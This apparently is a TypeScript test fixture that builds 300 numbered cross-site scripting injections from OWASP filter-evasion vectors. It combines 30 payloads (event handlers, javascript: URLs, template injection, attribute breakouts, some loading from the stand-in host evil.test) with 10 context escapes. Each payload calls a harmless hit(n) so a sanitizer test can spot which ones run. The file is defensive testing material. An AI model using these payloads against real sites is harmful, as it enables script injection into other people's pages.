/**
 * 300 injections: 30 payloads after 10 escapes from their context. Each contains its number.
 * Gathered after https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
 */
const escapes = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '-->',
  ']]>',
  '</style>',
  '\\u003c/script\\u003e',
];

/** `hit(n)` reports to the test; `evil.test` does not exist. */
const payloads: readonly ((n: number) => string)[] = [
  (n) => `<script>hit(${n})</script>`,
  (n) => `<script src=//evil.test/hit(${n})></script>`,
  (n) => `<img src=x onerror=hit(${n})>`,
  (n) => `<img/src="x"/onerror="hit(${n})">`,
  (n) => `<svg onload=hit(${n})>`,
  (n) => `<svg><script>hit(${n})</script></svg>`,
  (n) => `<svg><animate onbegin=hit(${n}) attributeName=x>`,
  (n) => `<body onload=hit(${n})>`,
  (n) => `<iframe srcdoc="<script>parent.hit(${n})</script>">`,
  (n) => `<iframe src="javascript:parent.hit(${n})">`,
  (n) => `<a href="javascript:hit(${n})">go</a>`,
  (n) => `<a href="java\tscript:hit(${n})">go</a>`,
  (n) => `<details open ontoggle=hit(${n})>`,
  (n) => `<video><source onerror=hit(${n})></video>`,
  (n) => `<input autofocus onfocus=hit(${n})>`,
  (n) => `<marquee onstart=hit(${n})>`,
  (n) => `<object data="javascript:hit(${n})">`,
  (n) => `<embed src="javascript:hit(${n})">`,
  (n) => `<math><maction actiontype=statusline xlink:href="javascript:hit(${n})">`,
  (n) => `<style>@import "//evil.test/hit(${n})";</style>`,
  (n) => `<style>*{animation:x}@keyframes x{}</style><b onanimationstart=hit(${n})>`,
  (n) => `<link rel=stylesheet href=//evil.test/hit(${n})>`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:hit(${n})">`,
  (n) => `<base href="//evil.test/hit(${n})/">`,
  (n) => `<form action="javascript:hit(${n})"><button autofocus>go</button></form>`,
  (n) => `\${hit(${n})}`,
  (n) => `{{constructor.constructor('hit(${n})')()}}`,
  (n) => `[go](javascript:hit(${n}))`,
  (n) => `" onmouseover="hit(${n})" style="position:fixed;inset:0" x="`,
  (n) => `';hit(${n});//`,
];

export const injections: readonly string[] = escapes.flatMap((prefix, row) =>
  payloads.map((payload, column) => prefix + payload(row * payloads.length + column)),
);

/** Numbers of the injections in a text. */
export const numbersIn = (text: string): number[] => [...text.matchAll(/hit\((\d+)\)/g)].map(([, n]) => Number(n));
